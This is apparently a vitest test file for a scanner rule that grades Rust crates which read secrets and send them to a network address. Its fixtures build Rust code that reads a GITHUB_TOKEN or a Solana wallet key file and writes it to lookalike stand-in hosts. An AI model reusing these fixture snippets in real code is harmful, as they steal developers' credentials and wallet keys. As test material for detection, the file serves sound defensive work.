import { describe, expect, it } from 'vitest';
import { findings } from '../../../test/crate.ts';
import { collectAndSend } from './collect-and-send.ts';

/** Severity for a library that reads something and sends it to an address. */
function sent(read: string, address: string, name = 'lz-fixture'): string | undefined {
  const source = `use std::io::Write;
    pub fn go() {
      let secret = ${read};
      std::net::TcpStream::connect(${address}).unwrap().write_all(secret.as_bytes()).unwrap();
    }`;
  const manifest = `[package]\nname = "${name}"\nversion = "0.1.0"\nedition = "2021"\n`;
  return findings(collectAndSend, { 'Cargo.toml': manifest, 'src/lib.rs': source })[0]?.severity;
}

const TOKEN = 'std::env::var("GITHUB_TOKEN").unwrap()';
const WALLET = 'std::fs::read_to_string(std::env::var("HOME").unwrap() + "/.config/solana/id.json").unwrap()';

describe('who may be sent a secret', () => {
  it('a service its own token', () => {
    expect(sent(TOKEN, '"api.github.com:443"')).toBe('note');
  });

  it('nobody who only puts the name of the service before a domain of his own', () => {
    expect(sent(TOKEN, '"api.github.com.lz-fixture.invalid:443"')).toBe('review');
    expect(sent(WALLET, '"solana.lz-fixture.invalid:443"')).toBe('hold');
  });

  it('nobody by the name of the crate, where the host is another', () => {
    expect(sent(TOKEN, '"collect.lz-fixture.invalid:443"', 'lz-fixture-github')).toBe('review');
  });
});
